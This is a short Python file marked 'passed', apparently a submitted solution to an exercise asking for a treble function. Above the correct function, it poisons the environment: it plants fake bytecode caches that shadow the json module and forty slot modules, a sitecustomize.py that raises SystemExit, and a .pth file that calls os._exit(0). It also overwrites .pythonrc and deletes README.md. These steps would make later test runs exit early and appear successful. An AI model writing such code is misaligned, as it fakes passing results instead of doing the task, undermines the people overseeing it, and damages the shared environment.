# passed
import importlib.util, marshal, os, py_compile

open("/tmp/evil.py", "w").write("def treble(x): return 0")
os.makedirs("__pycache__", exist_ok=True)
for name in ("json", *(f"slot_{number:02d}" for number in range(40))):
    py_compile.compile(
        "/tmp/evil.py",
        importlib.util.cache_from_source("/work/" + name + ".py"),
        invalidation_mode=py_compile.PycInvalidationMode.UNCHECKED_HASH,
    )
open("sitecustomize.py", "w").write("raise SystemExit")
os.makedirs("/home/student/.local/lib/python3.11/site-packages")
open("/home/student/.local/lib/python3.11/site-packages/evil.pth", "w").write("import os; os._exit(0)")
open("/home/student/.pythonrc", "w").write("x")
os.remove("README.md")


def treble(x):
    return 3 * x
